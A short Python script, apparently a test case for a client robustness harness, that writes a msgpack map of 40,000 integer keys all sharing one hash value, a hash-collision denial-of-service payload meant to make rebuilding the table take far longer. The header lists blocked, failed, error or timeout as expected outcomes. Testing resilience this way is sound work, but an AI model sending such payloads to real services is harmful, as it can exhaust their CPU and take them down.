# outcome: blocked, failed, error, timeout
# patience: 7
"""Answers with a table whose keys all fall on one place: a minute's work for who rebuilds it, or a day's."""

import os
import struct
import time

import msgpack

COUNT = 40_000
PRIME = (1 << 61) - 1  # integers that differ by a multiple of it have one and the same hash


def repeat_kv(x, n_rep):
    head = b"\x82\xa2id\x03\xa5value\xdf" + struct.pack(">I", COUNT)
    integer = 4
    parts = [
        msgpack.packb(msgpack.ExtType(integer, (PRIME * (number + 9)).to_bytes(16, "big")))
        + b"\xc0"
        for number in range(COUNT)
    ]
    body = head + b"".join(parts)
    body = struct.pack(">I", len(body)) + body
    while body:
        body = body[os.write(3, body[: 1 << 20]) :]
    time.sleep(20)
